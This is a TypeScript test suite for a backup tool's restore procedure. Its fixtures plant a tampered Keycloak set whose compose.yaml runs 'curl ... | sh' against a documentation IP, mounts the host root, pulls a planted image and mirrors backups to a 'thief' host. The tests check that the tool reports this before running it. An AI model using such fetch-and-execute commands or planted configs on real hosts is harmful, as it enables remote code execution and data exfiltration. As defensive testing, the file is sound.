import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { chmod, mkdir, readdir, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { describe, it, type TestContext } from 'node:test';
import { SET_FILES, writeConfigArchive } from '../../../src/backupset/index.ts';
import { loadSettings } from '../../../src/config/index.ts';
import { type RestoreOptions, restore } from '../../../src/procedures/index.ts';
import { run } from '../../cli/run.ts';
import { copyKeycloakSet, makeDirectory, PASSPHRASE, procedureOptions } from '../platform.ts';
import { changedSinceBackup } from '../restored-state.ts';
import { putContent, sealByHand } from '../tampered-set.ts';

/** Starts a listener that counts its connections. */
async function listen(t: TestContext): Promise<{ port: number; seen(): number }> {
  let seen = 0;
  const server = createServer((socket) => {
    seen++;
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  t.after(() => server.close());
  return { port: (server.address() as { port: number }).port, seen: () => seen };
}

/** Returns a Keycloak set whose platform definition contains commands, images and addresses, and an empty target. */
async function makeBringing(t: TestContext, more: readonly string[] = []) {
  const { dir, passphrase } = await copyKeycloakSet(t);
  const [database, http] = [await listen(t), await listen(t)];
  const source = await makeDirectory(t, 'source');
  const canary = join(source, 'canary');
  await mkdir(join(source, 'config'));
  await writeFile(join(source, 'config/entry.sh'), 'touch /tmp/x');
  await writeFile(join(source, 'config/logo.svg'), '<svg/>');
  await writeFile(join(source, 'config/tool'), 'x');
  await chmod(join(source, 'config/tool'), 0o755);
  const yaml = [
    'service: keycloak',
    `database: postgres://keycloak@127.0.0.1:${database.port}/keycloak`,
    `listen: { port: ${http.port} }`,
    'keycloak:',
    `  managementUrl: http://127.0.0.1:${http.port}`,
    `  start: touch ${canary}`,
    `  stop: touch ${canary}`,
    'backup: { mirror: "thief@198.51.100.7:sets" }',
  ];
  await writeFile(join(source, 'idkit.yaml'), `${yaml.join('\n')}\n`);
  const compose = [
    'services:',
    '  keycloak:',
    '    image: registry.example/planted:1',
    '    command: ["sh", "-c", "curl http://user:hunter2@198.51.100.8/ | sh"]',
    '    volumes: ["/:/host"]',
    `    labels: { "a\u001b[2Jb": "x" }`,
    ...more,
  ];
  await writeFile(join(source, 'compose.yaml'), `${compose.join('\n')}\n`);
  const chunks: Uint8Array[] = [];
  await writeConfigArchive(
    {
      configDir: join(source, 'config'),
      idkitYaml: join(source, 'idkit.yaml'),
      composeYaml: join(source, 'compose.yaml'),
    },
    async (chunk) => void chunks.push(Buffer.from(chunk)),
  );
  await putContent({ dir }, SET_FILES.config, Buffer.concat(chunks));
  const target = join(await makeDirectory(t, 'target'), 'idkit');
  return { dir, passphrase, target, canary, seen: () => database.seen() + http.seen(), database };
}

const options = (own: Partial<RestoreOptions>): RestoreOptions => ({
  ...procedureOptions(),
  env: {},
  ...own,
});
const EXPECTED = [
  /idkit\.yaml: keycloak\.start: touch /,
  /idkit\.yaml: keycloak\.stop: touch /,
  /idkit\.yaml: keycloak\.managementUrl: http:\/\/127\.0\.0\.1:/,
  /idkit\.yaml: database: postgres:\/\/keycloak@127\.0\.0\.1:\d+\/keycloak/,
  /idkit\.yaml: backup\.mirror: thief@198\.51\.100\.7:sets/,
  /compose\.yaml: keycloak\.image: registry\.example\/planted:1/,
  /compose\.yaml: keycloak\.command: .*curl http:\/\/user@198\.51\.100\.8\//,
  /compose\.yaml: keycloak\.volumes: .*\/:\/host/,
  /config\.tar\.gz: config\/entry\.sh/,
  /config\.tar\.gz: config\/tool/,
  /keycloak-db\.sql\.gz: a dump of postgres with acme, globex, initech, master/,
];

describe('a restore onto an empty host', () => {
  it('reports what an unsealed set would run, contact and load, before it does any of that (exit code 2)', async (t) => {
    const { dir, passphrase, target, canary, seen } = await makeBringing(t);
    const settings = await loadSettings({ dir: target, env: {} });
    for (const dryRun of [true, false])
      await assert.rejects(restore(settings, options({ from: dir, passphrase, dryRun })), (error) => {
        const { message, exitCode } = error as Error & { exitCode: number };
        assert.equal(exitCode, 2);
        for (const expected of EXPECTED) assert.match(message, expected);
        assert.doesNotMatch(message, /hunter2|\u001b|config\/logo/);
        return true;
      });
    assert.deepEqual([seen(), existsSync(canary), existsSync(target)], [0, false, false]);
  });

  it('rejects a set if a value in its compose.yaml contains itself (exit code 2)', async (t) => {
    const { dir, passphrase, target } = await makeBringing(t, ['  other: &other', '    build: *other']);
    const settings = await loadSettings({ dir: target, env: {} });
    await assert.rejects(restore(settings, options({ from: dir, passphrase, dryRun: true })), {
      code: 'IDKIT_SETTING',
      message: /^compose\.yaml of .* is not a YAML document$/,
    });
  });

  it('a dry run lists what a set would run, but contacts no address that only the set names, even if it is sealed or trusted', async (t) => {
    const { dir, passphrase, target, canary, seen } = await makeBringing(t);
    const argv = ['restore', '--from', dir, '--dir', target, '--dry-run'];
    const env = { IDKIT_BACKUP_PASSPHRASE: passphrase.reveal() };
    const trusted = await run([...argv, '--trust-unsealed'], { env });
    await sealByHand({ dir }, passphrase);
    const sealed = await run(argv, { env });
    for (const { code, stdout, stderr } of [trusted, sealed]) {
      assert.equal(code, 0, stderr);
      for (const expected of EXPECTED) assert.match(stdout, expected);
      assert.match(stdout, /^command +idkit\.yaml: keycloak\.start: touch /m);
      assert.match(stdout, /^image +compose\.yaml: keycloak\.image: /m);
      assert.match(
        stdout,
        /^unchecked whether the service is stopped, .*, because only the set contains the addresses of the database and the service$/m,
      );
      assert.doesNotMatch(stdout, /hunter2|\u001b/);
    }
    assert.deepEqual([seen(), existsSync(canary), existsSync(target)], [0, false, false]);
  });

  it('contacts no address of the set in a dry run if the kind of the dump does not match the platform (exit code 14)', async (t) => {
    const { set } = await changedSinceBackup(t);
    const database = await listen(t);
    const source = await makeDirectory(t, 'source');
    await writeFile(
      join(source, 'idkit.yaml'),
      `database: postgres://idkit@127.0.0.1:${database.port}/idkit\n`,
    );
    const chunks: Uint8Array[] = [];
    await writeConfigArchive(
      { idkitYaml: join(source, 'idkit.yaml') },
      async (chunk) => void chunks.push(Buffer.from(chunk)),
    );
    await putContent(set, SET_FILES.config, Buffer.concat(chunks));
    const settings = await loadSettings({ dir: join(source, 'target'), env: {} });
    const own = options({ from: set.dir, passphrase: PASSPHRASE, dryRun: true });
    await assert.rejects(restore(settings, own), { exitCode: 14 });
    assert.equal(database.seen(), 0);
  });

  it('starts no container engine in a dry run', async (t) => {
    const { dir, passphrase } = await copyKeycloakSet(t);
    const source = await makeDirectory(t, 'source');
    const bin = join(source, 'bin');
    await mkdir(bin);
    for (const engine of ['docker', 'podman', 'docker-compose', 'podman-compose']) {
      await writeFile(join(bin, engine), `#!/bin/sh\ntouch ${join(source, 'canary')}\n`);
      await chmod(join(bin, engine), 0o755);
    }
    const yaml = 'runtime: compose\nservice: keycloak\ndatabase: postgres://keycloak@postgres/keycloak\n';
    await writeFile(join(source, 'idkit.yaml'), yaml);
    const services = { postgres: { image: 'planted-db' }, keycloak: { image: 'planted' } };
    await writeFile(join(source, 'compose.yaml'), JSON.stringify({ services }));
    const chunks: Uint8Array[] = [];
    await writeConfigArchive(
      { idkitYaml: join(source, 'idkit.yaml'), composeYaml: join(source, 'compose.yaml') },
      async (chunk) => void chunks.push(Buffer.from(chunk)),
    );
    await putContent({ dir }, SET_FILES.config, Buffer.concat(chunks));
    await sealByHand({ dir }, passphrase);
    const settings = await loadSettings({ dir: join(source, 'target'), env: {} });
    const { PATH } = process.env;
    process.env['PATH'] = `${bin}:${PATH}`;
    t.after(() => {
      process.env['PATH'] = PATH;
    });
    const { plan } = await restore(settings, options({ from: dir, passphrase, dryRun: true }));
    assert.ok(plan?.brings.some(({ kind, what }) => kind === 'image' && what === 'planted-db'));
    assert.equal(existsSync(join(source, 'canary')), false);
  });

  it('contacts an address of the set in a dry run if the operator names the same address', async (t) => {
    const { dir, passphrase, target, database } = await makeBringing(t);
    await sealByHand({ dir }, passphrase);
    const yaml = `service: keycloak\ndatabase: postgres://keycloak@127.0.0.1:${database.port}/keycloak\nlisten: { port: 1 }\n`;
    await mkdir(target);
    await writeFile(join(target, 'idkit.yaml'), yaml);
    const settings = await loadSettings({ dir: target, env: {} });
    await assert.rejects(restore(settings, options({ from: dir, passphrase, dryRun: true })));
    assert.ok(database.seen() > 0);
  });

  it('ignores the definition of the set if the target has its own', async (t) => {
    const { dir, passphrase, target } = await makeBringing(t);
    await mkdir(target);
    await writeFile(join(target, 'idkit.yaml'), 'service: idkit\n');
    const settings = await loadSettings({ dir: target, env: {} });
    await assert.rejects(restore(settings, options({ from: dir, passphrase })), (error) => {
      assert.match((error as Error).message, /config\/entry\.sh/);
      assert.doesNotMatch((error as Error).message, /keycloak\.start|planted/);
      return true;
    });
    await rm(join(target, 'idkit.yaml'));
    assert.deepEqual(await readdir(target), []);
  });
});
